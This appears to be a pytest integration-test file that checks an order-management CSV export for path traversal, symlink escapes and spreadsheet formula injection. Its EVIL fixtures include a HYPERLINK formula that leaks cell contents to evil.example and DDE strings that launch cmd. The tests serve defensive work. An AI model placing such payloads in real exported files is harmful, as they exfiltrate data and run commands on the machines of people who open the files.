"""`oms export merchant-orders` against hostile data (issue 21, items 1, 2 and 20; spec 10.3):
references stored before §3 restricted them never lead a file outside `--out` nor put two
merchants in one folder; upstream text that a spreadsheet would run as a formula is written
with a leading `'` (not with `--raw`); an unknown `--merchant` and a `--out` that is a file are
errors naming them."""

from __future__ import annotations

import csv
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, update

from adapters.persistence import tables as t
from adapters.persistence.engine import make_engine
from tests.integration.csv_support import oms, two_merchant_order

pytestmark = pytest.mark.services

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
)


@pytest.fixture
def db(postgres_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.setenv("OMS_DATABASE_URL", postgres_url)
    monkeypatch.setenv("OMS_BROKER_URL", "stub://")
    engine = make_engine(postgres_url, pool_size=2)
    yield engine
    engine.dispose()


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def everything_under(root: Path) -> set[Path]:
    return {Path(folder) / name for folder, _, names in os.walk(root) for name in names}


def rename_merchant(db: Engine, body: dict[str, Any], old: str, new: str) -> str:
    """A merchant order stored under a reference that §3 now refuses (as older data may hold)."""
    reference = f"{body['number']}--{old}"
    with db.begin() as c:
        c.execute(
            update(t.merchant_orders)
            .where(t.merchant_orders.c.reference == reference)
            .values(merchant_reference=new)
        )
    return reference


def test_odd_references_stay_inside_out_one_folder_per_merchant(
    db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = uuid.uuid4().hex[:6].upper()
    plain = f"P{tag}"
    odd = [
        str(tmp_path / f"abs{tag}"),  # an absolute path
        f"../x{tag}",  # outside --out
        f"{plain}/",  # the plain merchant's folder, written as another merchant
        f"{plain}/../{plain}",
        ".",
        "..",
        "",
        " ",
        f"-{tag}",  # §3-invalid but made of plain characters
        f"Mağaza{tag}",
        "ğ" * 120,  # too long for a file name once encoded
        f"{tag}%2F",  # looks like an encoded name
    ]
    expected: dict[str, set[str]] = {}
    body = two_merchant_order(db, {"MER000002": plain, "MER000005": f"Q{tag}"})
    expected[plain] = {f"{body['number']}--{plain}"}
    for reference in odd:
        other = two_merchant_order(db, {"MER000002": f"R{tag}", "MER000005": f"Q{tag}"})
        expected[reference] = {rename_merchant(db, other, f"R{tag}", reference)}
    out = tmp_path / "out"

    code, stdout, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(out), "--raw",
        *(f"--merchant={reference}" for reference in expected),
    )  # fmt: skip

    assert (code, stderr) == (0, ""), stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # nothing outside --out
    found: dict[str, set[str]] = {}
    for path in everything_under(out):
        assert path.parent.parent == out, path  # DIR/{folder}/{file}, no deeper, no symlink
        assert not path.is_symlink() and not path.parent.is_symlink()
        if path.name == "merchant-orders.csv":
            stored = rows(path)
            (merchant,) = {r["merchant_reference"] for r in stored}  # one merchant per folder
            assert merchant not in found, f"{merchant} in two folders"
            found[merchant] = {r["merchant_order_reference"] for r in stored}
    assert found == expected
    assert (out / plain / "merchant-orders.csv").exists()  # a plain reference is its folder
    assert len(list(out.iterdir())) == len(expected)
    assert stdout.splitlines()[-1] == f"exported {len(expected)} merchants to {out}"


def test_a_folder_that_is_a_symlink_out_of_dir_is_refused(
    db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = uuid.uuid4().hex[:6].upper()
    merchant = f"L{tag}"
    two_merchant_order(db, {"MER000002": merchant})
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / merchant).symlink_to(elsewhere)

    code, _, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(out), "--merchant", merchant
    )

    assert code == 1
    assert str(out / merchant) in stderr and "outside" in stderr, stderr
    assert list(elsewhere.iterdir()) == []


def test_formulas_from_upstream_are_written_as_text_unless_raw(
    db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = uuid.uuid4().hex[:6].upper()
    merchant = f"F{tag}"
    customer = {"email": EVIL[2], "first_name": EVIL[0], "last_name": EVIL[1]}
    body = two_merchant_order(db, {"MER000002": merchant}, customer=customer)
    body_items = body["items"]
    with db.begin() as c:  # text a spreadsheet reads as a formula, as stored upstream text
        for item, (sku, name) in zip(
            body_items[:2], [(EVIL[1], EVIL[0]), ("\tSKU", "\rMug")], strict=True
        ):
            c.execute(
                update(t.order_items)
                .where(t.order_items.c.omnitron_id == item["id"])
                .values(sku=sku, name=name, product_offer_reference="-1+2")
            )
        c.execute(
            update(t.expenses)
            .where(t.expenses.c.merchant_reference == merchant)
            .values(name="=1+1", type="@type")
        )

    out = tmp_path / "safe"
    code, _, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(out), "--merchant", merchant
    )
    assert (code, stderr) == (0, "")
    (order,) = rows(out / merchant / "merchant-orders.csv")
    assert [order[k] for k in ("first_name", "last_name", "email")] == [f"'{e}" for e in EVIL]
    assert order["merchant_order_totals_grand_total"] == "15090"  # numbers stay numbers
    assert order["merchant_reference"] == merchant
    items = rows(out / merchant / "merchant-order-items.csv")
    assert [(i["product_sku"], i["product_name"]) for i in items] == [
        (f"'{EVIL[1]}", f"'{EVIL[0]}"),
        ("'\tSKU", "'\rMug"),
    ]
    assert {i["product_offer_reference"] for i in items} == {"'-1+2"}
    assert [i["price"] for i in items] == ["10000", "2500"]
    (expense,) = rows(out / merchant / "merchant-order-expenses.csv")
    assert (expense["name"], expense["type"], expense["price"]) == ("'=1+1", "'@type", "590")

    raw = tmp_path / "raw"
    code, _, _ = oms(
        capsys, "export", "merchant-orders", "--out", str(raw), "--merchant", merchant, "--raw"
    )
    assert code == 0
    (order,) = rows(raw / merchant / "merchant-orders.csv")
    assert [order[k] for k in ("first_name", "last_name", "email")] == list(EVIL)
    items = rows(raw / merchant / "merchant-order-items.csv")
    assert [i["product_name"] for i in items] == [EVIL[0], "\rMug"]


def test_an_unknown_merchant_and_an_out_that_is_a_file_are_errors_naming_them(
    db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = uuid.uuid4().hex[:6].upper()
    known = f"K{tag}"
    two_merchant_order(db, {"MER000002": known})
    out = tmp_path / "out"

    code, stdout, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(out),
        "--merchant", known, "--merchant", f"NOPE{tag}",
    )  # fmt: skip
    assert code == 1
    assert stderr.strip() == f"oms: no merchant NOPE{tag} (--merchant); nothing was exported"
    assert not out.exists() and stdout == ""

    a_file = tmp_path / "a-file"
    a_file.write_text("keep me")
    code, _, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(a_file), "--merchant", known
    )
    assert code == 1
    assert stderr.strip() == f"oms: --out {a_file}: is a file, not a folder"
    assert a_file.read_text() == "keep me"


def test_a_known_merchant_with_nothing_in_the_window_gets_header_only_files(
    db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tag = uuid.uuid4().hex[:6].upper()
    merchant = f"W{tag}"
    two_merchant_order(db, {"MER000002": merchant})
    out = tmp_path / "out"
    code, stdout, stderr = oms(
        capsys, "export", "merchant-orders", "--out", str(out), "--merchant", merchant,
        "--created-to", "2001-01-01",
    )  # fmt: skip
    assert (code, stderr) == (0, "")
    assert sorted(p.name for p in (out / merchant).iterdir()) == [
        "merchant-order-expenses.csv", "merchant-order-items.csv", "merchant-orders.csv",
    ]  # fmt: skip
    assert rows(out / merchant / "merchant-orders.csv") == []
    assert stdout.splitlines()[-1] == f"exported 1 merchants to {out}"
